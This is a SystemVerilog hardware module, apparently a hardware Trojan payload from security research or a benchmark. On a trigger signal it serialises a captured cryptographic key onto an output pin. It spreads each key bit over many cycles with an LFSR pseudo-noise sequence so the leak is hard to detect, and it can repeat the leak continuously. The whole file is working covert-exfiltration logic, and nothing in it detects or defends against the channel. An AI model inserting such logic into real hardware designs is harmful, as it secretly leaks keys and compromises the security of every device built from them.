// File: rtl/tj_leak_payload.sv
// Covert-channel payload: serialises the captured key MSB-first onto leak_out,
// spreading every key bit over CHIPS cycles by XOR with an LFSR PN sequence
// that restarts from the seed at each bit boundary.
module tj_leak_payload #(
  parameter int unsigned       KEY_W      = 128,
  parameter int unsigned       LFSR_W     = 8,
  parameter logic [LFSR_W-1:0] LFSR_TAPS  = 8'hB8,
  parameter logic [LFSR_W-1:0] LFSR_SEED  = 8'h01,
  parameter int unsigned       CHIPS      = 255,
  parameter bit                CONTINUOUS = 1'b0
) (
  input  logic                     clk,
  input  logic                     rst,
  input  logic                     tj_trig,
  input  logic [KEY_W-1:0]         key,
  output logic                     leak_out,
  output logic                     busy,
  output logic                     done,
  output logic [$clog2(KEY_W)-1:0] bit_idx
);

  localparam int unsigned IDX_W = $clog2(KEY_W);
  localparam int unsigned CNT_W = $clog2(CHIPS);

  // An all-zero seed would lock the LFSR, so fall back to 1.
  localparam logic [LFSR_W-1:0] SEED      = (LFSR_SEED == '0) ? LFSR_W'(1) : LFSR_SEED;
  localparam logic [CNT_W-1:0]  CHIP_LAST = CNT_W'(CHIPS - 1);
  localparam logic [IDX_W-1:0]  IDX_LAST  = IDX_W'(KEY_W - 1);

  typedef enum logic [1:0] {StIdle, StLoad, StSend, StDone} state_e;

  state_e             state_q, state_d;
  logic               trig_q;
  logic               leak_q, leak_d;
  logic [IDX_W-1:0]   idx_q, idx_d;
  logic [CNT_W-1:0]   cnt_q, cnt_d;
  logic [LFSR_W-1:0]  lfsr_q, lfsr_d;
  logic [KEY_W-1:0]   shreg_q, shreg_d;

  logic chip_last;
  logic bit_last;

  assign chip_last = (cnt_q == CHIP_LAST);
  assign bit_last  = (idx_q == IDX_LAST);

  // State and datapath registers; trigger is captured one edge before the FSM acts on it.
  always_ff @(posedge clk) begin
    if (rst) begin
      state_q <= StIdle;
      trig_q  <= 1'b0;
      leak_q  <= 1'b0;
      idx_q   <= '0;
      cnt_q   <= '0;
      lfsr_q  <= SEED;
      shreg_q <= '0;
    end else begin
      state_q <= state_d;
      trig_q  <= tj_trig;
      leak_q  <= leak_d;
      idx_q   <= idx_d;
      cnt_q   <= cnt_d;
      lfsr_q  <= lfsr_d;
      shreg_q <= shreg_d;
    end
  end

  // Next-state and datapath updates; everything holds unless the state says otherwise.
  always_comb begin
    state_d = state_q;
    leak_d  = leak_q;
    idx_d   = idx_q;
    cnt_d   = cnt_q;
    lfsr_d  = lfsr_q;
    shreg_d = shreg_q;

    unique case (state_q)
      StIdle: begin
        leak_d = 1'b0;
        if (trig_q) begin
          state_d = StLoad;
        end
      end

      // leak_out deliberately holds here so a continuous restart shows no gap glitch.
      StLoad: begin
        shreg_d = key;
        lfsr_d  = SEED;
        cnt_d   = '0;
        idx_d   = '0;
        state_d = StSend;
      end

      StSend: begin
        leak_d = shreg_q[KEY_W-1] ^ lfsr_q[LFSR_W-1];
        lfsr_d = {lfsr_q[LFSR_W-2:0], ^(lfsr_q & LFSR_TAPS)};
        cnt_d  = cnt_q + CNT_W'(1);
        if (chip_last) begin
          cnt_d   = '0;
          shreg_d = shreg_q << 1;
          lfsr_d  = SEED;
          if (bit_last) begin
            idx_d   = '0;
            state_d = CONTINUOUS ? StLoad : StDone;
          end else begin
            idx_d = idx_q + IDX_W'(1);
          end
        end
      end

      StDone: begin
        leak_d = 1'b0;
      end

      default: begin
        state_d = StIdle;
      end
    endcase
  end

  assign leak_out = leak_q;
  assign busy     = (state_q == StLoad) || (state_q == StSend);
  assign done     = (state_q == StDone);
  assign bit_idx  = idx_q;

endmodule
